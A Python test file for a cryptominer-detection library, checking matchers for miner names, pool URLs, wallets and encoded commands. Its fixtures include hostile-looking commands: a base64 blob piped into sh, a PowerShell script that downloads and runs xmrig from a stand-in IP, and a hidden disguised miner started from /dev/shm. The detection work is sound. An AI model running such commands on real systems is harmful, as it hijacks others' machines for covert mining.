"""Tests of minerwatch.detection.signatures: shipped lists and matchers (redaction: tests/test_redact.py)."""

from __future__ import annotations

import base64
import hashlib
import re
import time
from pathlib import Path

import pytest

from minerwatch.detection import signatures as sig
from minerwatch.detection.signatures import (
    BEHAVIOUR_SIGNALS,
    DISGUISE_SIGNALS,
    MINER_NAME_PREFIXES,
    MINER_NAMES_EXACT,
    SIGNALS,
    STRONG_SIGNALS,
    WEAK_SIGNALS,
    Match,
    Signatures,
)

S = Signatures()
DOC = Path(__file__).resolve().parent.parent / "docs" / "signatures.md"

# -- test wallets (public donation/example addresses; RVN built with a valid checksum) ----------

XMR = "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"
XMR2 = "42uasNqYPnSaG3TwRtTeVbQ4aRY3n9jY6VXX3mfgerWt4ohDQLVaBPv3cYGKDXasTUVuLvhxetcuS16ynt85czQ48mbSrWX"
ETH = "0x52908400098527886E0F7030069857D2E4169EE7"  # EIP-55 example
BTC = "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"  # genesis block
BECH32 = "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"  # BIP-173 example


def _b58check(version: int, payload: bytes) -> str:
    raw = bytes([version]) + payload
    raw += hashlib.sha256(hashlib.sha256(raw).digest()).digest()[:4]
    alphabet = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
    number, out = int.from_bytes(raw, "big"), ""
    while number:
        number, rem = divmod(number, 58)
        out = alphabet[rem] + out
    return "1" * (len(raw) - len(raw.lstrip(b"\0"))) + out


RVN = _b58check(0x3C, hashlib.sha256(b"minerwatch test").digest()[:20])  # starts with R


def _all(argv, *, comm=None, exe=None, exe_deleted=False, environ=None):
    argv0 = argv[0] if argv else ""
    base = re.split(r"[/\\]", argv0)[-1]
    if exe is None:
        exe = argv0 if argv0.startswith("/") or ":\\" in argv0 else f"/usr/local/bin/{base}"
    if comm is None:
        comm = re.split(r"[/\\]", exe)[-1][:15]
    return S.match_all(comm=comm, exe=exe, exe_deleted=exe_deleted, argv=argv, environ=environ)


def _signals(matches):
    return {m.signal for m in matches}


# ---------------------------------------------------------------------------------------------
# Signal catalogue
# ---------------------------------------------------------------------------------------------


def test_signal_names_and_classes():
    assert set(SIGNALS) == {
        "miner_name", "miner_cmdline", "pool_url", "encoded_cmdline", "wallet_address", "miner_env",
        "exe_deleted", "exe_in_temp_dir", "name_mismatch", "av_excluded", "pool_connection",
        "miner_exe_content", "miner_config", "packed_exe", "miner_behaviour", "randomx_memory",
    }
    assert STRONG_SIGNALS == {
        "miner_name", "miner_cmdline", "pool_url", "encoded_cmdline", "wallet_address", "miner_env",
        "pool_connection", "miner_exe_content", "miner_config",
    }
    assert DISGUISE_SIGNALS == {"exe_deleted", "exe_in_temp_dir", "name_mismatch", "packed_exe"}
    assert BEHAVIOUR_SIGNALS == {"miner_behaviour", "randomx_memory"}
    assert WEAK_SIGNALS == DISGUISE_SIGNALS | BEHAVIOUR_SIGNALS | {"av_excluded"}
    assert not STRONG_SIGNALS & WEAK_SIGNALS
    assert STRONG_SIGNALS | WEAK_SIGNALS == set(SIGNALS)
    assert all(isinstance(d, str) and d and "\n" not in d for d in SIGNALS.values())


def test_match_is_frozen():
    m = Match("pool_url", "x")
    with pytest.raises(Exception):
        m.signal = "y"  # type: ignore[misc]


def test_doc_names_every_signal_and_shipped_name():
    text = DOC.read_text(encoding="utf-8")
    for name in SIGNALS:
        assert f"`{name}`" in text, name
    for name in (*MINER_NAME_PREFIXES, *MINER_NAMES_EXACT):
        assert f"`{name}`" in text, name
    for flag in sig.MINER_FLAGS:
        assert f"`{flag}`" in text, flag
    assert "data/pools.txt" in text  # the pool domains are documented where they live
    for key in sig.ENV_KEYS | sig.WALLET_ENV_KEYS:
        assert f"`{key}`" in text, key


# ---------------------------------------------------------------------------------------------
# Names
# ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "comm, exe, argv0",
    [
        ("xmrig", "/opt/xmrig/xmrig", "./xmrig"),
        ("", "C:\\Users\\bob\\Downloads\\XMRig.exe", ""),
        ("xmrig-notls", "", ""),
        ("", "/usr/bin/xmrig-cuda", ""),
        ("", "/usr/bin/xmrig-proxy", ""),
        ("", "/home/u/xmrig-6.21.0/xmrig-6.21.0", ""),
        ("", "", "/tmp/.cache/.xmrig"),  # hidden file
        ("xmr-stak-rx", "", ""),
        ("minerd", "", ""),
        ("minergate-cli", "", ""),
        ("cpuminer-opt", "", ""),
        ("", "/opt/cpuminer-multi/cpuminer-multi", ""),
        ("ccminer", "", ""),
        ("ethminer", "", ""),
        ("cgminer", "", ""),
        ("bfgminer", "", ""),
        ("sgminer", "", ""),
        ("claymore", "", ""),
        ("", "D:\\mine\\EthDcrMiner64.exe", ""),
        ("nbminer", "", ""),
        ("t-rex", "", ""),
        ("", "C:\\t-rex\\T-Rex.exe", ""),
        ("gminer", "", ""),
        ("lolMiner", "", ""),
        ("PhoenixMiner", "", ""),
        ("teamredminer", "", ""),
        ("nanominer", "", ""),
        ("bminer", "", ""),
        ("wildrig-multi", "", ""),
        ("", "C:\\SRBMiner\\SRBMiner-MULTI.exe", ""),
        ("rigel", "", ""),
        ("rigel-1.4.2", "", ""),
        ("NiceHashMiner.e", "", ""),  # Windows name, truncated
        ("nicehashquickmi", "", ""),  # comm of nicehashquickminer, truncated by Linux
        ("excavator", "", ""),
        ("kawpowminer", "", ""),
        ("nheqminer", "", ""),
        ("cryptonight", "", ""),
        ("kdevtmpfsi", "", ""),
        ("", "", "-xmrig"),
    ],
)
def test_known_miner_names(comm, exe, argv0):
    matches = S.match_names(comm, exe, argv0)
    assert [m.signal for m in matches] == ["miner_name"]


@pytest.mark.parametrize(
    "name",
    [
        "miner",  # GMiner's binary: too common a word
        "dataminer-report",
        "rigelctl",
        "rigel_backup.sh",
        "minerva",
        "minerdash",
        "trex",
        "t-rexx",
        "gminer-helper",
        "claymore-notes",
        "excavator-sim",
        "myxmrig",
        "xmr",
        "bash",
        "systemd",
        "python3",
        "nicehashquick",  # a 13-character name is not a truncated one
        "",
    ],
)
def test_not_miner_names(name):
    assert S.match_names(name, f"/usr/bin/{name}" if name else "", name) == []


def test_exe_reason_preferred_and_short():
    [m] = S.match_names("systemd", "/tmp/.x/xmrig", "systemd")
    assert m.reason == "executable xmrig"


def test_extra_names_exact_and_case_insensitive():
    s = Signatures(extra_names=["CorpMiner", "miner", "evil.exe"])
    assert s.match_names("corpminer", "", "")
    assert s.match_names("", "C:\\x\\EVIL.EXE", "")
    assert s.match_names("miner", "", "")
    assert s.match_names("corpminer-2", "", "") == []
    assert S.match_names("corpminer", "", "") == []  # the default instance is untouched


def test_extra_names_truncated_comm():
    s = Signatures(extra_names=["averyveryverylongminer"])
    assert s.match_names("averyveryverylo", "", "")


# ---------------------------------------------------------------------------------------------
# Real-world miner command lines: the exact set of signals
# ---------------------------------------------------------------------------------------------

MINERS = [
    # XMRig
    (["xmrig", "-o", "pool.supportxmr.com:443", "-u", XMR, "-k", "--tls", "-p", "worker1", "--donate-level", "1"],
     {"miner_name", "miner_cmdline", "wallet_address"}),
    (["xmrig", "--url", "stratum+ssl://gulf.moneroocean.stream:20128", f"--user={XMR}", "--pass=x",
      "--coin", "monero", "--randomx-1gb-pages"],
     {"miner_name", "miner_cmdline", "pool_url", "wallet_address"}),
    (["./xmrig-notls", "-a", "rx/0", "-o", "10.0.0.5:3333", "-u", "worker1", "--cpu-priority", "2"],
     {"miner_name", "miner_cmdline"}),
    (["xmrig", "-c", "config.json"], {"miner_name"}),
    # xmr-stak
    (["xmr-stak", "--currency", "monero", "-o", "pool.minexmr.com:4444", "-u", XMR2, "-p", "x", "--noUAC"],
     {"miner_name", "miner_cmdline", "wallet_address"}),
    (["xmr-stak-rx", "-o", "xmr-eu1.nanopool.org:14433", "-u", f"{XMR}.rig1", "-p", "x", "--noAMD"],
     {"miner_name", "miner_cmdline", "wallet_address"}),
    # cpuminer-opt, cpuminer-multi, minerd
    (["cpuminer", "-a", "gr", "-o", "stratum+tcp://stratum-eu.rplant.xyz:7056", "-u", f"{RVN}.w1", "-p", "c=RTM"],
     {"miner_name", "miner_cmdline", "pool_url", "wallet_address"}),
    (["cpuminer-multi", "-a", "cryptonight", "-o", "stratum+tcp://xmr.pool.example.net:3333", "-u", XMR, "-p", "x", "-t", "4"],
     {"miner_name", "miner_cmdline", "pool_url", "wallet_address"}),
    (["minerd", "-a", "scrypt", "-o", "stratum+tcp://ltc.pool.example.net:3333", "-O", "user.worker:password"],
     {"miner_name", "miner_cmdline", "pool_url"}),
    # T-Rex, NBMiner, GMiner, TeamRedMiner, Rigel, WildRig, ccminer (GPU)
    (["t-rex", "-a", "kawpow", "-o", "stratum+tcp://rvn.2miners.com:6060", "-u", RVN, "-p", "x", "-w", "rig0"],
     {"miner_name", "miner_cmdline", "pool_url", "wallet_address"}),
    (["nbminer", "-a", "kawpow", "-o", "stratum+tcp://rvn.2miners.com:6060", "-u", f"{RVN}.rig1"],
     {"miner_name", "miner_cmdline", "pool_url", "wallet_address"}),
    (["miner", "--algo", "kawpow", "--server", "rvn.2miners.com:6060", "--user", RVN],  # GMiner
     {"miner_cmdline", "wallet_address"}),
    (["teamredminer", "-a", "ethash", "-o", "stratum+tcp://eth.2miners.com:2020", "-u", f"{ETH}.rig", "-p", "x"],
     {"miner_name", "miner_cmdline", "pool_url", "wallet_address"}),
    (["rigel", "-a", "kawpow", "-o", "stratum+tcp://rvn.2miners.com:6060", "-u", RVN, "-w", "my_rig",
      "--log-file", "logs/miner.log"],
     {"miner_name", "miner_cmdline", "pool_url", "wallet_address"}),
    (["wildrig-multi", "--algo", "kawpow", "--url", "stratum+tcp://rvn.2miners.com:6060", "--user", RVN, "--pass", "x"],
     {"miner_name", "miner_cmdline", "pool_url", "wallet_address"}),
    (["ccminer", "-a", "x16r", "-o", "stratum+tcp://ravenminer.com:3636", "-u", RVN, "-p", "c=RVN"],
     {"miner_name", "miner_cmdline", "pool_url", "wallet_address"}),
    # lolMiner, SRBMiner, PhoenixMiner, Claymore (Windows names)
    (["C:\\lolMiner\\lolMiner.exe", "--algo", "ETCHASH", "--pool", "etc.2miners.com:1010", "--user", f"{ETH}.rig"],
     {"miner_name", "miner_cmdline", "wallet_address"}),
    (["lolMiner", "--coin", "ERGO", "--pool", "erg.pool.example.org:8888", "--user", "myworker"],
     {"miner_name", "miner_cmdline"}),
    (["SRBMiner-MULTI.exe", "--algorithm", "randomx", "--pool", "gulf.moneroocean.stream:10128", "--wallet", XMR,
      "--password", "x"],
     {"miner_name", "miner_cmdline", "wallet_address"}),
    (["PhoenixMiner.exe", "-pool", "ssl://eu1.ethermine.org:5555", "-pool2", "ssl://us1.ethermine.org:5555",
      "-wal", f"{ETH}.Rig001", "-coin", "etc"],
     {"miner_name", "miner_cmdline", "wallet_address"}),
    (["EthDcrMiner64.exe", "-epool", "eth-eu1.nanopool.org:9999", "-ewal", f"{ETH}/rig", "-epsw", "x", "-mode", "1"],
     {"miner_name", "miner_cmdline", "wallet_address"}),
    # ethminer family: the wallet sits in the pool URL
    (["ethminer", "-G", "-P", f"stratum1+tcp://{ETH}.rig1@eu1.ethermine.org:4444"],
     {"miner_name", "pool_url", "wallet_address"}),
    (["kawpowminer", "-U", "-P", f"stratum+tcp://{RVN}.worker@rvn.2miners.com:6060"],
     {"miner_name", "pool_url", "wallet_address"}),
    # cgminer / bfgminer (Bitcoin ASIC era)
    (["cgminer", "-o", "stratum+tcp://stratum.slushpool.com:3333", "-u", "user.worker", "-p", "x"],
     {"miner_name", "miner_cmdline", "pool_url"}),
    (["bfgminer", "-o", "stratum+tcp://btc.f2pool.com:3333", "-u", f"{BTC}.001", "-p", "x", "-S", "all"],
     {"miner_name", "miner_cmdline", "pool_url", "wallet_address"}),
    (["bfgminer", "-o", "stratum+tcp://solo.pool.example.net:3333", "-u", BECH32],
     {"miner_name", "miner_cmdline", "pool_url", "wallet_address"}),
    # Others
    (["nanominer", "config.ini"], {"miner_name"}),
    (["nheqminer", "-l", "eu1-zcash.flypool.org:3333", "-u", "t1abc.rig"], {"miner_name"}),
    (["bminer", "-uri", "stratum://t1abc.w1@zec.pool.example.net:3333"], {"miner_name", "pool_url"}),
    (["xmrig-proxy", "-o", "pool.hashvault.pro:443", "-u", XMR, "-b", "0.0.0.0:3333", "--tls"],
     {"miner_name", "miner_cmdline", "wallet_address"}),
    (["NiceHashQuickMiner.exe"], {"miner_name"}),
    # Renamed and hidden miners: no known name, caught by options and wallets
    (["sh", "-c", f"cd /dev/shm && ./kworker -o 45.9.148.1:80 -u {XMR} -p x --donate-level 1 -B"],
     {"miner_cmdline", "wallet_address"}),
    (["/usr/sbin/httpd", "-o", "gulf.moneroocean.stream:10128", "-u", XMR2, "--cpu-max-threads-hint", "50"],
     {"miner_cmdline", "wallet_address"}),
    (["./update", "--algo", "rx/0", "--url", "203.0.113.7:3333", "--user", "w", "--pause-on-active=60"],
     {"miner_cmdline"}),
    (["./svc", "-o", "pool.example.net:3333", "-u", "rig1", "-p", "x"], {"miner_cmdline"}),
    (["./svc", "-o", "pool.supportxmr.com:3333"], {"miner_cmdline"}),
    (["./svc", "--cpu-priority", "5", "-o", "203.0.113.7:14444"], {"miner_cmdline"}),
    # MoneroOcean / C3Pool setup scripts take the wallet as their only argument
    (["bash", "setup_c3pool_miner.sh", XMR], {"wallet_address"}),
]


@pytest.mark.parametrize("argv, expected", MINERS, ids=[" ".join(a)[:60] for a, _ in MINERS])
def test_miner_command_lines(argv, expected):
    assert _signals(_all(argv)) == expected


# ---------------------------------------------------------------------------------------------
# Benign command lines that look a bit like miners: nothing at all
# ---------------------------------------------------------------------------------------------

BENIGN = [
    ["gcc", "-c", "pool.c", "-o", "pool.o"],
    ["gcc", "-p", "-O2", "-o", "prog", "prog.c"],
    ["cc", "-O2", "-Wall", "-c", "zpool.c", "-o", "zpool.o"],
    ["/usr/local/cuda/bin/ptxas", "-arch=sm_80", "-m64", "-o", "kernel.cubin", "kernel.ptx"],
    ["zpool", "import", "-o", "readonly=on", "tank"],
    ["zpool", "import", "-d", "/dev/disk/by-id", "-o", "cachefile=/etc/zfs/zpool.cache", "tank"],
    ["java", "-XX:+UseG1GC", "-XX:MaxGCPauseMillis=200", "-Xmx4g", "-jar", "app.jar", "--server.port=8080"],
    ["python3", "manage.py", "runserver", "0.0.0.0:8000"],
    ["restic", "-r", "sftp:backup@host.example.com:/srv/restic", "backup", "/home", "--password-file", "/etc/restic.pass"],
    ["borg", "create", "--compression", "zstd", "ssh://backup@host.example.com:22/./repo::{now}", "/home"],
    ["rsync", "-a", "-o", "-g", "src/", "backup.example.com:/srv/backup/"],
    ["ffmpeg", "-i", "in.mp4", "-c:v", "libx264", "-preset", "slow", "out.mp4"],
    ["make", "-j8"],
    ["curl", "-o", "file.tar.gz", "https://example.com/file.tar.gz"],
    ["curl", "--url", "https://api.example.com:8443/v1", "--user", "admin:pw"],
    ["sort", "-o", "out.txt", "in.txt"],
    ["openssl", "enc", "-aes-256-cbc", "-a", "-salt", "-in", "s.txt", "-out", "s.enc", "-pass", "pass:hunter2"],
    ["7z", "a", "-pS3cret", "archive.7z", "docs/"],
    ["ssh", "-o", "StrictHostKeyChecking=no", "-o", "ProxyJump=jump.example.com:2222", "host"],
    ["ssh", "-p", "2222", "-o", "ServerAliveInterval=60", "user@host.example.com"],
    ["ssh-keygen", "-t", "ed25519", "-a", "100", "-f", "key"],
    ["shasum", "-a", "256", "file.iso"],
    ["gpg", "--cipher-algo", "AES256", "-c", "file"],
    ["hashcat", "-a", "0", "-m", "1000", "hashes.txt", "words.txt", "-o", "cracked.txt"],
    ["node", "--max-old-space-size=4096", "server.js"],
    ["/opt/google/chrome/chrome", "--type=renderer", "--crashpad-handler-pid=1234", "--enable-crash-reporter=,",
     "--change-stack-guard-on-fork=enable", "--lang=en-US", "--num-raster-threads=4", "--enable-main-frame-before-activation",
     "--renderer-client-id=7", "--time-ticks-at-unix-epoch=-1700000000000000", "--launch-time-ticks=123456",
     "--shared-files=v8_context_snapshot_data:100", "--field-trial-handle=0,i,4238190453246587221,1590736151186577218,262144",
     "--enable-features=BackForwardCache,CalculateNativeWinOcclusion", "--disable-features=KeyboardAccessory",
     "--variations-seed-version=20240101-000000.000000"],
    ["xz", "-T0", "-9", "big.tar"],
    ["stress-ng", "--cpu", "4", "--timeout", "60s"],
    ["postgres: checkpointer"],
    ["/usr/sbin/mysqld", "--defaults-file=/etc/mysql/my.cnf"],
    ["mysql", "-h", "db.example.com", "-P", "3306", "-u", "root", "-pSecret123"],
    ["git", "log", "-p"],
    ["git", "show", "3f2a9c1e5b7d4a6f8e0c2b4d6f8a0c2e4b6d8f0a"],
    ["docker", "run", "-p", "8080:80", "-e", "POSTGRES_PASSWORD=x", "postgres:16"],
    ["kubectl", "port-forward", "svc/grafana", "3000:3000", "-n", "monitoring"],
    ["socat", "TCP-LISTEN:3333,fork", "TCP:proxy.internal.example:3333"],
    ["uvicorn", "app:app", "--host", "0.0.0.0", "--port", "8000"],
    ["mosquitto_sub", "-h", "broker.example.com", "-p", "1883", "-u", "sensor", "-P", "pw", "-t", "t/#"],
    ["iperf3", "-c", "10.0.0.5", "-p", "5201", "-t", "60"],
    ["hugo", "server", "-p", "1313"],
    # crypto-adjacent but not mining: wallets without a pool or wallet option do not count
    ["bitcoin-cli", "-rpcuser=u", "-rpcpassword=p", "sendtoaddress", BTC, "0.1"],
    ["cast", "call", ETH, "balanceOf(address)"],
    ["cast", "tx", "0x" + "ab" * 32],
    ["electrum", "payto", BECH32, "0.01"],
    ["dataminer-report", "--out", "report.csv"],
    ["rigelctl", "status"],
    ["powershell.exe", "-NoProfile", "-EncodedCommand",
     base64.b64encode("Get-Process | Sort-Object CPU -Descending".encode("utf-16-le")).decode()],
    ["trader", "--coin", "btc", "--exchange", "binance"],
    ["ansible-playbook", "-i", "hosts", "site.yml", "-u", "deploy"],
]


@pytest.mark.parametrize("argv", BENIGN, ids=[" ".join(a)[:60] for a in BENIGN])
def test_benign_command_lines(argv):
    exe = "/usr/lib/postgresql/16/bin/postgres" if argv[0].startswith("postgres") else None
    comm = "python3" if argv[0] == "python3" else ("postgres" if exe else None)
    exe = "/usr/bin/python3.11" if argv[0] == "python3" else exe
    assert _all(argv, comm=comm, exe=exe) == []


def test_lists_are_big_enough():
    assert len(MINERS) >= 20 and len(BENIGN) >= 20


# ---------------------------------------------------------------------------------------------
# Command-line details
# ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "stratum+tcp://pool.example.net:3333",
        "stratum+ssl://pool.example.net:443",
        "stratum+tls://pool.example.net:443",
        "stratum+udp://pool.example.net:3333",
        "stratum1+tcp://pool.example.net:4444",
        "stratum2+tcp://pool.example.net:3333",
        "STRATUM+TCP://POOL.EXAMPLE.NET:3333",
        "stratums://pool.example.net:5555",
        "stratum+tls12://pool.example.net:5555",
    ],
)
def test_pool_url_schemes(url):
    assert [m.signal for m in S.match_cmdline(["x", url])] == ["pool_url"]


def test_pool_url_reason_redacts_password_keeps_user():
    [m] = S.match_cmdline(["x", f"stratum+tcp://{XMR[:20]}.w1:s3cretpw@pool.example.net:3333"])
    assert m.reason == f"pool URL stratum+tcp://{XMR[:20]}.w1:<redacted>@pool.example.net:3333"
    assert "s3cretpw" not in m.reason


def test_reasons_never_hold_secrets():
    argv = ["xmrig", "-o", "wal.w:topsecret@pool.example.net:3333", "-a", "rx/0", "-p", "topsecret",
            "--http-access-token", "topsecret", "stratum+tcp://u:topsecret@pool.example.net:3333"]
    matches = _all(argv, environ={"POOL_PASS": "topsecret"})
    assert {"miner_cmdline", "pool_url", "miner_env"} <= _signals(matches)
    for m in matches:
        assert "topsecret" not in m.reason


@pytest.mark.parametrize(
    "argv, reason",
    [
        (["x", "--donate-level=1"], "argument --donate-level"),
        (["x", "--DONATE-LEVEL", "1"], "argument --donate-level"),
        (["x", "--coin", "XMR"], "argument --coin XMR"),
        (["x", "-a", "rx/0", "-o", "pool.example.net:3333"], "arguments -a rx/0 with -o pool.example.net:3333"),
        (["x", "-a", "cn/r", "--url=pool.example.net:3333"], "arguments -a cn/r with --url pool.example.net:3333"),
        (["x", "-o", "stratum+tcp://pool.c3pool.com:13333"], "pool host in -o stratum+tcp://pool.c3pool.com:13333"),
    ],
)
def test_cmdline_reasons(argv, reason):
    assert S.match_cmdline(argv)[0] == Match("miner_cmdline", reason)


@pytest.mark.parametrize(
    "algo",
    ["rx/0", "rx/wow", "cn/r", "cn/half", "cn-heavy/xhv", "cn-pico", "kawpow", "ethash", "etchash", "autolykos2",
     "argon2/chukwa", "argon2/chukwav2", "gr", "ghostrider", "randomx", "astrobwt", "kheavyhash", "equihash144_5",
     "144_5", "octopus", "firopow", "yespower", "lyra2rev3", "x16r"],
)
def test_algorithms_need_a_pool(algo):
    assert _signals(S.match_cmdline(["x", "-a", algo])) == set()
    assert _signals(S.match_cmdline(["x", "--algo", algo, "-o", "pool.example.net:3333"])) == {"miner_cmdline"}


def test_algo_flag_with_non_mining_value_or_no_pool():
    assert S.match_cmdline(["tar", "-a", "-cf", "x.tar.gz", "-o", "pool.example.net:3333"]) == []
    assert S.match_cmdline(["x", "-a", "sha1", "-o", "pool.example.net:3333"]) == []
    assert S.match_cmdline(["x", "-a", "rx/0", "-o", "pool.o"]) == []


def test_cpu_priority_needs_another_miner_option():
    assert S.match_cmdline(["encoder", "--cpu-priority", "2", "in.mkv"]) == []
    assert S.match_cmdline(["x", "--cpu-priority", "2", "-a", "rx/0"])[0].signal == "miner_cmdline"
    assert S.match_cmdline(["x", "--cpu-priority=2", "--coin", "ethereum"])[0].signal == "miner_cmdline"


def test_http_pool_counts_only_with_algorithm():
    assert S.match_cmdline(["x", "--url", "http://pool.example.net:8080", "-u", "w"]) == []
    assert S.match_cmdline(["x", "--url", "https://supportxmr.com/api/stats"]) == []
    assert S.match_cmdline(["x", "--url", "http://127.0.0.1:18081", "-a", "rx/0"])[0].signal == "miner_cmdline"


def test_extra_patterns():
    s = Signatures(extra_patterns=[r"--corp-mine\b", r"(?i)secretpool\.internal"])
    assert s.match_cmdline(["tool", "--corp-mine"]) == [Match("miner_cmdline", r"configured pattern --corp-mine\b")]
    assert s.match_cmdline(["tool", "-x", "SecretPool.internal:1"])[0].signal == "miner_cmdline"
    assert s.match_cmdline(["tool", "--corp-miner"]) == []
    # a built-in reason wins over a configured one
    assert s.match_cmdline(["tool", "--corp-mine", "--donate-level", "1"])[0].reason == "argument --donate-level"


def test_bad_extra_pattern_raises_a_one_line_error():
    with pytest.raises(ValueError, match="^invalid regular expression: missing \\)"):
        Signatures(extra_patterns=["(unclosed"])
    with pytest.raises(ValueError, match="^not supported by the linear-time matcher"):
        Signatures(extra_patterns=[r"(a)\1"])  # a backreference: Python's re has it, RE2 not


def test_extra_patterns_run_in_linear_time():
    """`(a+)+$` backtracks exponentially in Python's re on `aaaa…!`; on RE2 it is linear. With
    re.compile this call would not return in any lifetime (30 a's take minutes already)."""
    s = Signatures(extra_patterns=[r"(a+)+$"])
    s.match_cmdline(["tool", "a" * 100_000 + "!"])  # returns (user_regex bounds the input to 64 KiB)
    assert s.match_cmdline(["tool", "a" * 60_000 + "!"]) == []  # ends with "!": no match
    assert s.match_cmdline(["tool", "aaaa"])[0].signal == "miner_cmdline"


def test_one_match_per_signal():
    argv = ["x", "--donate-level", "1", "--nicehash", "stratum+tcp://a.example:1", "stratum+ssl://b.example:2"]
    signals = [m.signal for m in S.match_cmdline(argv)]
    assert sorted(signals) == sorted(set(signals))


def test_empty_inputs():
    assert S.match_cmdline([]) == []
    assert S.match_names("", "", "") == []
    assert S.match_environ({}) == []
    assert S.match_environ(None) == []  # type: ignore[arg-type]
    assert S.match_executable("", "", False) == []
    assert S.match_all(comm="", exe="", exe_deleted=False, argv=[]) == []


# ---------------------------------------------------------------------------------------------
# Base64
# ---------------------------------------------------------------------------------------------


def test_fragments_are_computed_and_match_published_ones():
    # Sigma's published fragments for stratum+tcp:// and --donate-level=
    assert set(sig._b64_fragments(b"stratum+tcp://")) == {"c3RyYXR1bSt0Y3A6Ly", "N0cmF0dW0rdGNwOi8v", "zdHJhdHVtK3RjcDovL"}
    assert set(sig._b64_fragments(b"--donate-level=")) == {"LS1kb25hdGUtbGV2ZWw9", "0tZG9uYXRlLWxldmVsP", "tLWRvbmF0ZS1sZXZlbD"}


@pytest.mark.parametrize("plain", ["stratum+tcp://", "stratum+ssl://", "--donate-level", "--cpu-max-threads-hint"])
@pytest.mark.parametrize("prefix", [b"", b"a", b"ab", b"echo hi; ", b"x=1 && "])
@pytest.mark.parametrize("encoding", ["ascii", "utf-16-le"])
def test_base64_any_alignment(plain, prefix, encoding):
    payload = prefix.decode().encode(encoding) + f"{plain}pool.example.net:3333 -u w".encode(encoding)
    blob = base64.b64encode(payload).decode()
    matches = S.match_cmdline(["/bin/sh", "-c", f"echo {blob} | base64 -d | sh"])
    assert [m.signal for m in matches] == ["encoded_cmdline"]
    assert plain in matches[0].reason
    assert ("UTF-16LE" in matches[0].reason) == (encoding != "ascii")


def test_powershell_encoded_command_launching_xmrig():
    script = (
        "$p = \"$env:TEMP\\svchost.exe\"; "
        "Start-Process -WindowStyle Hidden $p -ArgumentList "
        "'-o stratum+tcp://pool.example.net:3333 -u wallet -p x'"
    )
    blob = base64.b64encode(script.encode("utf-16-le")).decode()
    argv = ["powershell.exe", "-NoP", "-NonI", "-W", "Hidden", "-EncodedCommand", blob]
    matches = _all(argv, exe="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
    assert _signals(matches) == {"encoded_cmdline"}


def test_powershell_encoded_command_decoded_miner_name():
    # No needle (no stratum URL, no distinctive flag): found by decoding -enc.
    script = "iwr http://203.0.113.9/x.zip -OutFile x.zip; Expand-Archive x.zip; .\\x\\xmrig.exe -o 203.0.113.9:80"
    blob = base64.b64encode(script.encode("utf-16-le")).decode()
    [m] = S.match_cmdline(["pwsh", "-enc", blob])
    assert m == Match("encoded_cmdline", "PowerShell -EncodedCommand runs xmrig")


def test_powershell_encoded_reason_redacts_url_password():
    script = "xmrig -o stratum+tcp://w:hunter2@pool.example.net:3333"
    blob = base64.b64encode(script.encode("utf-16-le")).decode()
    [m] = S.match_cmdline(["powershell", "-e", blob])
    assert "hunter2" not in m.reason


def test_random_base64_is_not_encoded_miner():
    blobs = [base64.b64encode(hashlib.sha512(str(i).encode()).digest() * 8).decode() for i in range(200)]
    assert S.match_cmdline(["app", "--data", *blobs]) == []


# ---------------------------------------------------------------------------------------------
# Wallets
# ---------------------------------------------------------------------------------------------


def test_test_addresses_are_valid():
    assert len(XMR) == 95 and len(XMR2) == 95
    assert RVN.startswith("R") and sig._is_base58check_address(RVN)
    assert sig._is_base58check_address(BTC)
    assert sig._is_bech32_address(BECH32)
    assert not sig._is_base58check_address(BTC[:-1] + ("b" if BTC[-1] != "b" else "c"))
    assert not sig._is_bech32_address(BECH32[:-1] + "5")


@pytest.mark.parametrize(
    "argv, kind",
    [
        (["x", "-u", XMR], "Monero"),
        (["x", f"--user={XMR}.rig1"], "Monero"),
        (["x", "--user", f"{XMR}+50000"], "Monero"),
        (["x", "4" + "A" * 105], "Monero"),  # integrated address length
        (["x", "8" + "B" * 94], "Monero"),  # subaddress
        (["x", "-u", ETH], "Ethereum"),
        (["x", "--wallet", ETH.lower()], "Ethereum"),
        (["x", "-w", f"{ETH}.rig"], "Ethereum"),
        (["x", "--user", f"SHIB:{ETH}.worker"], "Ethereum"),
        (["x", "-u", BTC], "Bitcoin-style"),
        (["x", "-u", RVN], "Bitcoin-style"),
        (["x", "-u", BECH32], "Bech32"),
        (["x", "-u", BECH32.upper()], "Bech32"),
        (["x", ETH], None),  # a lone address in a dev tool
        (["x", BTC], None),
        (["x", "-u", "0x" + "ab" * 32], None),  # a 32-byte hash, not an address
        (["x", "-u", "ab" * 20], None),  # sha1 hex
        (["x", "-u", "3" + "a1b2c3d4e5f6" * 2 + "abcdef1"], None),  # md5-like hex starting with 3
        (["x", "-u", "1" + "Z" * 33], None),  # base58 without a valid checksum
    ],
)
def test_wallet_contexts(argv, kind):
    matches = [m for m in S.match_cmdline(argv) if m.signal == "wallet_address"]
    if kind is None:
        assert matches == []
    else:
        assert len(matches) == 1 and matches[0].reason.startswith(f"{kind} address ")


def test_wallet_with_pool_context_anywhere():
    assert _signals(S.match_cmdline(["x", "-o", "pool.example.net:3333", f"{ETH}.w"])) == {"wallet_address"}


def test_wallet_reason_abbreviates():
    [m] = S.match_cmdline(["x", "-u", XMR])
    assert m.reason == f"Monero address {XMR[:8]}...{XMR[-4:]} as value of -u"


# ---------------------------------------------------------------------------------------------
# Environment
# ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("key", ["POOL_URL", "POOL_USER", "POOL_PASS", "DONATE_LEVEL", "MINING_POOL", "pool_url"])
def test_miner_env_keys(key):
    [m] = S.match_environ({"PATH": "/usr/bin", key: "very-secret-value"})
    assert m.signal == "miner_env" and key in m.reason and "very-secret-value" not in m.reason


def test_wallet_env_needs_an_address():
    assert S.match_environ({"WALLET": "/home/u/.wallet"}) == []
    assert S.match_environ({"WALLET_ADDRESS": ""}) == []
    [m] = S.match_environ({"WALLET": XMR})
    assert m.signal == "miner_env" and XMR[:8] not in m.reason
    assert S.match_environ({"WALLET_ADDRESS": f"{ETH}.rig"})


def test_env_value_with_pool_url():
    [m] = S.match_environ({"ARGS": "-o stratum+tcp://u:pw@pool.example.net:3333"})
